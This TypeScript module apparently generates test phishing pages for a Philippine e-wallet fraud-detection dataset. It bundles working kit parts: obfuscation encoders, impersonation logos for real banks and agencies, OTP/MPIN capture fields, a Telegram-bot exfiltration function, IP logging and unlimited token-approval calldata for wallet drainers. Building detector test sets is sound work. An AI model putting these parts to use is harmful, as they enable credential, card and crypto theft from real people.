/**
 * Shared helpers for the `yw-` held-out pages (Philippine e-wallet / remittance fraud desk): page shells,
 * brand palettes and inline SVG marks, small encoders the kits use for obfuscation, and ABI encoders for
 * the wallet pages. No page lives here; every helper is parametrised so the pages built with it differ.
 */

export type Shell = {
  title: string;
  lang?: string;
  head?: string;
  css?: string;
  body: string;
  bodyAttrs?: string;
  /** Tailwind-like reset or none. */
  reset?: boolean;
};

export function page(s: Shell): string {
  const reset = s.reset === false ? '' : '*{box-sizing:border-box}html,body{margin:0;padding:0}';
  return `<!DOCTYPE html>
<html lang="${s.lang ?? 'en'}">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1, maximum-scale=1">
<title>${s.title}</title>
${s.head ?? ''}
<style>${reset}${s.css ?? ''}</style>
</head>
<body${s.bodyAttrs ? ' ' + s.bodyAttrs : ''}>
${s.body}
</body>
</html>`;
}

export const esc = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

export const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');

export const hexOf = (s: string): string => Buffer.from(s, 'utf8').toString('hex');

/** "104,116,116,112" — for String.fromCharCode(...) kits. */
export const charCodes = (s: string, shift = 0): string =>
  Array.from(s)
    .map((c) => (c.codePointAt(0) ?? 0) + shift)
    .join(',');

/** Repeating-key XOR, then base64: the "encrypted config" many kits ship and decode at load. */
export function xorB64(s: string, key: string): string {
  const src = Buffer.from(s, 'utf8');
  const k = Buffer.from(key, 'utf8');
  return Buffer.from(src.map((b, i) => b ^ (k[i % k.length] ?? 0))).toString('base64');
}

/** JS source that undoes xorB64 in the browser (name of the function is chosen by the page). */
export const xorDecoderJs = (fn: string): string =>
  `function ${fn}(d,k){var s=atob(d),o='';for(var i=0;i<s.length;i++){o+=String.fromCharCode(s.charCodeAt(i)^k.charCodeAt(i%k.length));}try{return decodeURIComponent(escape(o));}catch(e){return o;}}`;

/** Splits a string into a JS concatenation expression of `n`-character pieces: 'ht'+'tp'+... */
export const splitJs = (s: string, n = 3): string => {
  const parts: string[] = [];
  for (let i = 0; i < s.length; i += n) parts.push(JSON.stringify(s.slice(i, i + n)));
  return parts.join('+');
};

/** Reversed base64 (kits that do atob(x.split('').reverse().join(''))). */
export const revB64 = (s: string): string => b64(s).split('').reverse().join('');

// ------------------------------------------------------------------ brands

export type Palette = { name: string; main: string; accent: string; ink: string; soft: string };

export const PH = {
  gcash: { name: 'GCash', main: '#007cff', accent: '#0055d4', ink: '#0b1f44', soft: '#eaf3ff' },
  maya: { name: 'Maya', main: '#00d67d', accent: '#111111', ink: '#0d0d0d', soft: '#eafff5' },
  bdo: { name: 'BDO', main: '#0033a1', accent: '#f9b000', ink: '#1a1a1a', soft: '#eef2fa' },
  bpi: { name: 'BPI', main: '#a6192e', accent: '#7c0f1f', ink: '#222222', soft: '#fbf1f2' },
  metrobank: { name: 'Metrobank', main: '#00418d', accent: '#0a74c9', ink: '#1b2430', soft: '#edf4fb' },
  unionbank: { name: 'UnionBank', main: '#f47920', accent: '#2d2d2d', ink: '#2d2d2d', soft: '#fff4ec' },
  landbank: { name: 'LANDBANK', main: '#00843d', accent: '#ffd100', ink: '#12301f', soft: '#eef8f1' },
  securitybank: { name: 'Security Bank', main: '#003b71', accent: '#8cc63f', ink: '#13233a', soft: '#eef3f8' },
  palawan: { name: 'Palawan Express', main: '#e4002b', accent: '#00529b', ink: '#222222', soft: '#fff0f2' },
  cebuana: { name: 'Cebuana Lhuillier', main: '#00529c', accent: '#d71f26', ink: '#1d1d1d', soft: '#eef4fb' },
  sss: { name: 'Social Security System', main: '#0039a6', accent: '#f5c400', ink: '#101c3a', soft: '#f1f4fb' },
  pagibig: { name: 'Pag-IBIG Fund', main: '#1b3f8b', accent: '#e31b23', ink: '#17213a', soft: '#f2f5fb' },
  philhealth: { name: 'PhilHealth', main: '#0a8a4a', accent: '#f2c500', ink: '#143022', soft: '#eef9f2' },
  dswd: { name: 'DSWD', main: '#0a3d91', accent: '#d52b1e', ink: '#13213d', soft: '#f0f4fb' },
  lto: { name: 'Land Transportation Office', main: '#1d3c8f', accent: '#f0b323', ink: '#111c33', soft: '#f1f4fa' },
  dfa: { name: 'Department of Foreign Affairs', main: '#0e2a5c', accent: '#c8a24a', ink: '#0e1a30', soft: '#f3f5f9' },
  jnt: { name: 'J&T Express', main: '#e60012', accent: '#333333', ink: '#222222', soft: '#fff1f1' },
  lbc: { name: 'LBC Express', main: '#d71920', accent: '#1a1a1a', ink: '#1a1a1a', soft: '#fff2f2' },
  ninjavan: { name: 'Ninja Van', main: '#c1121f', accent: '#231f20', ink: '#231f20', soft: '#fdf0f1' },
  phlpost: { name: 'PHLPost', main: '#003f87', accent: '#e41e26', ink: '#0f1d33', soft: '#eef3fa' },
} satisfies Record<string, Palette>;

/** A rounded-square wordmark: brand initials or short name in the brand's colours. */
export function mark(p: Palette, text: string, size = 44, round = 10): string {
  const fs = text.length > 3 ? Math.round(size * 0.28) : Math.round(size * 0.42);
  return `<svg xmlns="http://www.w3.org/2000/svg" width="${size}" height="${size}" viewBox="0 0 ${size} ${size}" role="img" aria-label="${esc(p.name)}"><rect width="${size}" height="${size}" rx="${round}" fill="${p.main}"/><text x="50%" y="54%" dominant-baseline="middle" text-anchor="middle" font-family="Arial,Helvetica,sans-serif" font-weight="700" font-size="${fs}" fill="#fff">${esc(text)}</text></svg>`;
}

/** A horizontal logo: a coloured glyph followed by the brand's name. */
export function wordmark(p: Palette, label = p.name, height = 32): string {
  const w = Math.round(height * 1.1 + label.length * height * 0.52);
  return `<svg xmlns="http://www.w3.org/2000/svg" width="${w}" height="${height}" viewBox="0 0 ${w} ${height}" role="img" aria-label="${esc(label)}"><circle cx="${height / 2}" cy="${height / 2}" r="${height / 2 - 1}" fill="${p.main}"/><path d="M${height * 0.3} ${height * 0.52}l${height * 0.14} ${height * 0.14} ${height * 0.28}-${height * 0.3}" stroke="${p.accent === '#111111' ? '#fff' : p.accent}" stroke-width="${height * 0.1}" fill="none" stroke-linecap="round"/><text x="${height * 1.15}" y="${height * 0.7}" font-family="Arial,Helvetica,sans-serif" font-weight="700" font-size="${height * 0.62}" fill="${p.ink}">${esc(label)}</text></svg>`;
}

/** A government seal: concentric circles with the agency's acronym (for agency look-alikes and real pages). */
export function seal(p: Palette, acronym: string, size = 64): string {
  const r = size / 2;
  return `<svg xmlns="http://www.w3.org/2000/svg" width="${size}" height="${size}" viewBox="0 0 ${size} ${size}" role="img" aria-label="${esc(p.name)} seal"><circle cx="${r}" cy="${r}" r="${r - 1}" fill="${p.main}"/><circle cx="${r}" cy="${r}" r="${r - 6}" fill="none" stroke="${p.accent}" stroke-width="2"/><circle cx="${r}" cy="${r}" r="${r - 14}" fill="#fff"/><text x="50%" y="54%" dominant-baseline="middle" text-anchor="middle" font-family="Georgia,serif" font-weight="700" font-size="${Math.round(size * (acronym.length > 4 ? 0.14 : 0.2))}" fill="${p.main}">${esc(acronym)}</text></svg>`;
}

export const svgData = (svg: string): string => 'data:image/svg+xml;base64,' + b64(svg);

/** A row of one-digit inputs (OTP / MPIN) that moves focus along as digits are typed. */
export function digitBoxes(n: number, name: string, type: 'tel' | 'password' = 'tel', cls = 'dg'): string {
  const boxes = Array.from({ length: n }, (_, i) => `<input class="${cls}" type="${type}" inputmode="numeric" maxlength="1" name="${name}${i + 1}" autocomplete="off" aria-label="Digit ${i + 1}">`).join('');
  return `<div class="${cls}-row">${boxes}</div><script>(function(){var b=document.querySelectorAll('.${cls}');b.forEach(function(el,i){el.addEventListener('input',function(){el.value=el.value.replace(/[^0-9]/g,'');if(el.value&&b[i+1])b[i+1].focus();});el.addEventListener('keydown',function(e){if(e.key==='Backspace'&&!el.value&&b[i-1])b[i-1].focus();});});})();</script>`;
}

/** JS: gather the digit boxes named prefix1..prefixN into one string. */
export const joinDigitsJs = (name: string, n: number): string =>
  `(function(){var s='';for(var i=1;i<=${n};i++){var el=document.querySelector('[name="${name}'+i+'"]');s+=el?el.value:'';}return s;})()`;

/**
 * JS: the Telegram-bot exfiltration function most PH kits carry. `fn` is the function's name in the page;
 * the token and chat id come in as JS expressions so each kit can hide them its own way.
 */
export const telegramSendJs = (fn: string, tokenExpr: string, chatExpr: string, tag: string): string =>
  `function ${fn}(lines){var t=${tokenExpr},c=${chatExpr};var txt='[${tag}] '+lines.join('\\n')+'\\nIP: '+(window.__ip||'?')+'\\nUA: '+navigator.userAgent;return fetch('https://api.telegram.org/bot'+t+'/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:c,text:txt,parse_mode:'HTML'})}).catch(function(){});}`;

/** JS: ask a public IP echo for the visitor's address and keep it in window.__ip (kits log it with the loot). */
export const ipLookupJs = (url: string): string => `fetch('${url}').then(function(r){return r.json();}).then(function(j){window.__ip=j.ip||j.query||'';}).catch(function(){});`;

/** Philippine peso amount formatting used in several pages. */
export const peso = (n: number): string => '₱' + n.toLocaleString('en-US', { minimumFractionDigits: n % 1 ? 2 : 0, maximumFractionDigits: 2 });

/** A Luhn check in JS (kits validate card numbers before sending so the loot is clean). */
export const luhnJs = (fn: string): string =>
  `function ${fn}(n){n=String(n).replace(/\\D/g,'');var s=0,d=false;for(var i=n.length-1;i>=0;i--){var x=+n[i];if(d){x*=2;if(x>9)x-=9;}s+=x;d=!d;}return n.length>=13&&s%10===0;}`;

// ------------------------------------------------------------------ EVM calldata

const strip0x = (h: string): string => (h.startsWith('0x') ? h.slice(2) : h);
export const word = (hex: string): string => strip0x(hex).toLowerCase().padStart(64, '0');
export const MAX_UINT = 'f'.repeat(64);

/** approve(address,uint256) calldata. */
export const approveData = (spender: string, amountHex = MAX_UINT): string => '0x095ea7b3' + word(spender) + word(amountHex);
/** setApprovalForAll(address,bool) calldata. */
export const setApprovalForAllData = (operator: string, approved = true): string => '0xa22cb465' + word(operator) + word(approved ? '1' : '0');
/** transfer(address,uint256) calldata. */
export const transferData = (to: string, amountHex: string): string => '0xa9059cbb' + word(to) + word(amountHex);
/** increaseAllowance(address,uint256) calldata. */
export const increaseAllowanceData = (spender: string, amountHex = MAX_UINT): string => '0x39509351' + word(spender) + word(amountHex);

/** A minimal "connect wallet" modal markup the dapp pages (real and fake) style their own way. */
export function walletModal(id: string, wallets: string[]): string {
  return `<div id="${id}" class="wm" hidden><div class="wm-box"><div class="wm-head">Connect a wallet<button type="button" class="wm-x" aria-label="Close" onclick="document.getElementById('${id}').hidden=true">×</button></div>${wallets.map((w) => `<button type="button" class="wm-opt" data-wallet="${esc(w)}"><span class="wm-dot"></span>${esc(w)}</button>`).join('')}<p class="wm-note">By connecting, you agree to the Terms of Service.</p></div></div>`;
}

export const walletModalCss = (accent: string): string =>
  `.wm{position:fixed;inset:0;background:rgba(0,0,0,.55);display:flex;align-items:center;justify-content:center;z-index:50}.wm[hidden]{display:none}.wm-box{background:#16181d;color:#eee;border-radius:16px;width:340px;padding:18px}.wm-head{display:flex;justify-content:space-between;font-weight:700;margin-bottom:12px}.wm-x{background:none;border:0;color:#aaa;font-size:20px;cursor:pointer}.wm-opt{display:flex;align-items:center;gap:10px;width:100%;padding:12px;margin:6px 0;border-radius:12px;border:1px solid #2a2e36;background:#1e2128;color:#eee;font-size:15px;cursor:pointer}.wm-opt:hover{border-color:${accent}}.wm-dot{width:22px;height:22px;border-radius:6px;background:${accent}}.wm-note{font-size:11px;color:#888;margin-top:10px}`;

/** Fake or real "recent transactions" ticker lines (names are masked the way PH apps mask them). */
export function maskedNames(seed: number, count: number): string[] {
  const first = ['Ma***a', 'Jo***h', 'Re***e', 'Ch***o', 'An***a', 'Je***y', 'Ro***o', 'Li***y', 'Ma***n', 'Kr***e', 'Da***l', 'Ge***n'];
  const city = ['Quezon City', 'Cebu City', 'Davao', 'Iloilo', 'Pasig', 'Hong Kong', 'Dubai', 'Riyadh', 'Singapore', 'Bacolod', 'Cagayan de Oro', 'Taguig'];
  const out: string[] = [];
  for (let i = 0; i < count; i++) out.push(`${first[(seed * 7 + i * 5) % first.length]} · ${city[(seed * 3 + i * 7) % city.length]}`);
  return out;
}
